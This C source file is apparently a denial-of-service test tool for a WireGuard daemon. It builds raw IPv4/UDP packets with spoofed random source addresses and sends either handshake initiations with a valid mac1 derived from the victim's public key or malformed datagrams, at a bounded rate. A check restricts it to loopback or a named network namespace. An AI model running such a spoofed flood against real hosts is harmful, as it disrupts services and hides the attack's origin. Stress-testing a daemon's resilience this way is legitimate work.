/* Handshake flood generator for denial-of-service tests.
 *
 * Sends, through a raw IPv4 socket with hand-built IP and UDP headers,
 * either handshake initiations that carry a valid mac1 for the victim's
 * public key (so they pass the cheap check and cost the victim a DH or a
 * cookie reply) or garbage datagrams, from source addresses and ports drawn
 * at random from a CIDR, at a fixed rate, bounded in time and count.
 *
 * It only runs inside a named network namespace (ip netns add), or
 * against a loopback target: spoofed floods must never leave the machine.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <zinc/blake2s.h>

#include "wg/wg.h"

#include "../../daemon/base64.h"

#include "rfc1071.h"

enum {
	IP_HDR_LEN = 20,
	UDP_HDR_LEN = 8,
	INIT_LEN = WG_HANDSHAKE_MAX_LEN,
	MAC_LEN = WG_COOKIE_LEN,
	INIT_MAC1_OFF = INIT_LEN - 2 * MAC_LEN,	       /* mac1, then mac2 end the message */
	MAX_PAYLOAD = 1500 - IP_HDR_LEN - UDP_HDR_LEN, /* one unfragmented packet on a 1500 link */
	BATCH = 64,
};

enum flood_mode { MODE_INIT, MODE_GARBAGE };

struct flood_opts {
	struct in_addr target;
	uint16_t port;
	uint8_t pubkey[WG_PUBLIC_KEY_LEN];
	uint32_t src_net, src_mask; /* host order */
	uint64_t rate;		    /* packets per second; 0: as fast as possible */
	double seconds;
	uint64_t count; /* 0: bounded by seconds only */
	enum flood_mode mode;
};

/* xoshiro-style fast non-cryptographic generator: the flood only needs
 * varied bytes, not secret ones. */
static uint64_t rng_state[2];

static uint64_t rng_next(void)
{
	uint64_t s0 = rng_state[0], s1 = rng_state[1], r = s0 + s1;

	s1 ^= s0;
	rng_state[0] = ((s0 << 55) | (s0 >> 9)) ^ s1 ^ (s1 << 14);
	rng_state[1] = (s1 << 36) | (s1 >> 28);
	return r;
}

static void rng_fill(uint8_t *buf, size_t len)
{
	while (len >= 8) {
		uint64_t v = rng_next();
		memcpy(buf, &v, 8);
		buf += 8;
		len -= 8;
	}
	if (len) {
		uint64_t v = rng_next();
		memcpy(buf, &v, len);
	}
}

static bool parse_target(const char *s, struct flood_opts *o)
{
	char host[64];
	const char *colon = strrchr(s, ':');
	char *end;
	unsigned long port;

	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return false;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = 0;
	if (inet_pton(AF_INET, host, &o->target) != 1)
		return false;
	port = strtoul(colon + 1, &end, 10);
	if (*end || port == 0 || port > 65535)
		return false;
	o->port = (uint16_t)port;
	return true;
}

static bool parse_cidr(const char *s, struct flood_opts *o)
{
	char host[64];
	const char *slash = strchr(s, '/');
	struct in_addr a;
	unsigned long bits = 32;
	char *end;

	if (slash) {
		if ((size_t)(slash - s) >= sizeof(host))
			return false;
		memcpy(host, s, (size_t)(slash - s));
		host[slash - s] = 0;
		bits = strtoul(slash + 1, &end, 10);
		if (*end || bits > 32)
			return false;
	} else {
		snprintf(host, sizeof(host), "%s", s);
	}
	if (inet_pton(AF_INET, host, &a) != 1)
		return false;
	o->src_mask = bits ? ~0U << (32 - bits) : 0;
	o->src_net = ntohl(a.s_addr) & o->src_mask;
	return true;
}

/* Spoofing is allowed only against loopback or from inside a namespace made
 * with `ip netns add` (one bound under /run/netns): never from the host's. */
static bool flood_allowed(const struct flood_opts *o)
{
	struct stat self, named;
	struct dirent *de;
	bool found = false;
	DIR *d;

	if ((ntohl(o->target.s_addr) >> 24) == 127)
		return true;
	if (stat("/proc/self/ns/net", &self))
		return false;
	d = opendir("/run/netns");
	if (!d)
		return false;
	while (!found && (de = readdir(d))) {
		char path[300];

		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/run/netns/%s", de->d_name);
		found = !stat(path, &named) && named.st_ino == self.st_ino &&
			named.st_dev == self.st_dev;
	}
	closedir(d);
	return found;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

/* Writes IPv4 + UDP headers in front of the payload already at pkt + 28. */
static size_t build_headers(uint8_t *pkt, size_t payload_len, uint32_t src, uint16_t sport,
			    const struct flood_opts *o)
{
	uint8_t *ip = pkt, *udp = pkt + IP_HDR_LEN;
	uint16_t udp_len = (uint16_t)(UDP_HDR_LEN + payload_len);
	uint32_t dst = ntohl(o->target.s_addr), sum;
	uint8_t pseudo[12];
	uint16_t c;

	memset(ip, 0, IP_HDR_LEN);
	ip[0] = 0x45;
	put16(ip + 2, (uint16_t)(IP_HDR_LEN + udp_len));
	put16(ip + 4, (uint16_t)rng_next());
	ip[6] = 0x40; /* don't fragment */
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	put16(ip + 12, (uint16_t)(src >> 16));
	put16(ip + 14, (uint16_t)src);
	put16(ip + 16, (uint16_t)(dst >> 16));
	put16(ip + 18, (uint16_t)dst);
	put16(ip + 10, (uint16_t)~rfc1071_fold(rfc1071_add(0, ip, IP_HDR_LEN)));

	put16(udp, sport);
	put16(udp + 2, o->port);
	put16(udp + 4, udp_len);
	put16(udp + 6, 0);
	memcpy(pseudo, ip + 12, 8);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_UDP;
	put16(pseudo + 10, udp_len);
	sum = rfc1071_add(0, pseudo, sizeof(pseudo));
	sum = rfc1071_add(sum, udp, udp_len);
	c = (uint16_t)~rfc1071_fold(sum);
	put16(udp + 6, c ? c : 0xffff); /* 0 means "no checksum" in UDP */
	return IP_HDR_LEN + udp_len;
}

static uint32_t pick_source(const struct flood_opts *o)
{
	uint32_t host_bits = ~o->src_mask, h;

	if (host_bits < 3)
		return o->src_net | ((uint32_t)rng_next() & host_bits);
	/* Skip the network and broadcast addresses. */
	do
		h = (uint32_t)rng_next() & host_bits;
	while (h == 0 || h == host_bits);
	return o->src_net | h;
}

static size_t build_init(uint8_t *payload, const struct zinc_blake2s_state *mac1_base)
{
	struct zinc_blake2s_state st = *mac1_base;

	rng_fill(payload, INIT_LEN);
	payload[0] = WG_MESSAGE_HANDSHAKE_INITIATION;
	payload[1] = payload[2] = payload[3] = 0;
	zinc_blake2s_update(&st, payload, INIT_MAC1_OFF);
	zinc_blake2s_final(&st, payload + INIT_MAC1_OFF);
	memset(payload + INIT_MAC1_OFF + MAC_LEN, 0, MAC_LEN);
	return INIT_LEN;
}

/* Half of the garbage has the exact size of its type, so it reaches the
 * per-type parsers instead of the size check alone. */
static size_t build_garbage(uint8_t *payload)
{
	static const size_t exact[6] = {0, 148, 92, 64, 32, 0};
	uint64_t r = rng_next();
	uint8_t type = (uint8_t)(r % 6);
	size_t len;

	if ((r >> 8) & 1 && exact[type]) {
		len = exact[type];
		if (type == 4)
			len += ((r >> 16) % ((MAX_PAYLOAD - 32) / 16 + 1)) * 16;
	} else {
		len = 1 + (size_t)((r >> 16) % MAX_PAYLOAD);
	}
	rng_fill(payload, len);
	payload[0] = type;
	if (len >= 4 && ((r >> 9) & 3))
		payload[1] = payload[2] = payload[3] = 0;
	return len;
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static void usage(FILE *f)
{
	fprintf(f, "usage: flood --target IP:PORT --pubkey BASE64 [--src CIDR] [--rate N]\n"
		   "             [--seconds S] [--count N] [--mode init|garbage]\n"
		   "  --src      spoofed IPv4 sources (default: 10.250.0.0/16)\n"
		   "  --rate     packets per second, 0 = unlimited (default 10000)\n"
		   "  --seconds  duration bound (default 10)\n"
		   "  --count    packet bound (default: none)\n"
		   "Runs only inside an `ip netns add` namespace or against 127.0.0.0/8.\n");
}

static int parse_args(int argc, char **argv, struct flood_opts *o)
{
	static const struct option longopts[] = {
	    {"target", required_argument, NULL, 't'},
	    {"pubkey", required_argument, NULL, 'k'},
	    {"src", required_argument, NULL, 's'},
	    {"rate", required_argument, NULL, 'r'},
	    {"seconds", required_argument, NULL, 'S'},
	    {"count", required_argument, NULL, 'c'},
	    {"mode", required_argument, NULL, 'm'},
	    {"help", no_argument, NULL, 'h'},
	    {NULL, 0, NULL, 0},
	};
	bool have_target = false, have_key = false;
	int c;

	memset(o, 0, sizeof(*o));
	o->rate = 10000;
	o->seconds = 10;
	parse_cidr("10.250.0.0/16", o);
	while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		char *end = NULL;

		switch (c) {
		case 't':
			if (!parse_target(optarg, o))
				return fprintf(stderr, "flood: bad --target %s\n", optarg), -1;
			have_target = true;
			break;
		case 'k':
			if (!base64_decode_key(optarg, strlen(optarg), o->pubkey))
				return fprintf(stderr, "flood: bad --pubkey\n"), -1;
			have_key = true;
			break;
		case 's':
			if (!parse_cidr(optarg, o))
				return fprintf(stderr, "flood: bad --src %s\n", optarg), -1;
			break;
		case 'r':
			o->rate = strtoull(optarg, &end, 10);
			break;
		case 'S':
			o->seconds = strtod(optarg, &end);
			if (!(o->seconds > 0 && o->seconds <= 3600))
				return fprintf(stderr, "flood: --seconds must be in (0, 3600]\n"),
				       -1;
			break;
		case 'c':
			o->count = strtoull(optarg, &end, 10);
			break;
		case 'm':
			if (!strcmp(optarg, "init"))
				o->mode = MODE_INIT;
			else if (!strcmp(optarg, "garbage"))
				o->mode = MODE_GARBAGE;
			else
				return fprintf(stderr, "flood: bad --mode %s\n", optarg), -1;
			break;
		case 'h':
			usage(stdout);
			exit(0);
		default:
			usage(stderr);
			return -1;
		}
		if (end && *end)
			return fprintf(stderr, "flood: bad number %s\n", optarg), -1;
	}
	if (optind != argc || !have_target || (o->mode == MODE_INIT && !have_key)) {
		usage(stderr);
		return -1;
	}
	return 0;
}

/* Sleeps until the packet budget at the target rate allows `sent` more. */
static void pace(const struct flood_opts *o, uint64_t start, uint64_t sent)
{
	uint64_t due, now;
	struct timespec ts;

	if (!o->rate)
		return;
	due = start + (uint64_t)((double)sent * 1e9 / (double)o->rate);
	now = now_ns();
	if (due <= now)
		return;
	ts.tv_sec = (time_t)(due / 1000000000ULL);
	ts.tv_nsec = (long)(due % 1000000000ULL);
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
}

int main(int argc, char **argv)
{
	static uint8_t pkts[BATCH][IP_HDR_LEN + UDP_HDR_LEN + MAX_PAYLOAD];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct flood_opts o;
	struct sockaddr_in dst = {.sin_family = AF_INET};
	struct zinc_blake2s_state mac1_base;
	uint8_t mac1_key[32];
	uint64_t start, deadline, sent = 0, errors = 0, elapsed;
	int fd;

	if (parse_args(argc, argv, &o))
		return 2;
	if (!flood_allowed(&o)) {
		fprintf(stderr, "flood: refusing to spoof outside a test network namespace\n");
		return 2;
	}
	if (getrandom(rng_state, sizeof(rng_state), 0) != sizeof(rng_state))
		return perror("getrandom"), 1;
	rng_state[0] |= 1;

	/* mac1 key = HASH(LABEL_MAC1 || victim public key); keyed state reused. */
	{
		uint8_t label_key[8 + 32];
		memcpy(label_key, "mac1----", 8);
		memcpy(label_key + 8, o.pubkey, 32);
		zinc_blake2s(mac1_key, label_key, NULL, 32, sizeof(label_key), 0);
		zinc_blake2s_init_key(&mac1_base, MAC_LEN, mac1_key, 32);
	}

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* implies IP_HDRINCL */
	if (fd < 0)
		return perror("flood: raw socket"), 1;
	dst.sin_addr = o.target;
	for (int i = 0; i < BATCH; i++) {
		memset(&msgs[i], 0, sizeof(msgs[i]));
		iov[i].iov_base = pkts[i];
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(dst);
	}

	start = now_ns();
	deadline = start + (uint64_t)(o.seconds * 1e9);
	while (now_ns() < deadline && (!o.count || sent < o.count)) {
		uint64_t n = BATCH;
		int done = 0;

		if (o.count && o.count - sent < n)
			n = o.count - sent;
		if (o.rate && n > o.rate / 1000 + 1)
			n = o.rate / 1000 + 1; /* bursts of ~1 ms: a steady rate */
		for (uint64_t i = 0; i < n; i++) {
			uint8_t *payload = pkts[i] + IP_HDR_LEN + UDP_HDR_LEN;
			size_t len = o.mode == MODE_INIT ? build_init(payload, &mac1_base)
							 : build_garbage(payload);
			uint16_t sport = (uint16_t)(1024 + rng_next() % (65536 - 1024));
			iov[i].iov_len = build_headers(pkts[i], len, pick_source(&o), sport, &o);
		}
		while ((uint64_t)done < n) {
			int r = sendmmsg(fd, msgs + done, (unsigned)(n - (uint64_t)done), 0);
			if (r < 0) {
				if (errno == EINTR)
					continue;
				/* ENOBUFS/EPERM under pressure: count the packet, move on. */
				if (!errors)
					perror("flood: sendmmsg (first error)");
				errors++;
				done++;
				continue;
			}
			done += r;
			sent += (uint64_t)r;
		}
		pace(&o, start, sent + errors);
	}
	elapsed = now_ns() - start;
	close(fd);
	printf("sent=%llu errors=%llu seconds=%.3f rate=%.0f mode=%s\n", (unsigned long long)sent,
	       (unsigned long long)errors, (double)elapsed / 1e9,
	       (double)sent * 1e9 / (double)(elapsed ? elapsed : 1),
	       o.mode == MODE_INIT ? "init" : "garbage");
	return 0;
}
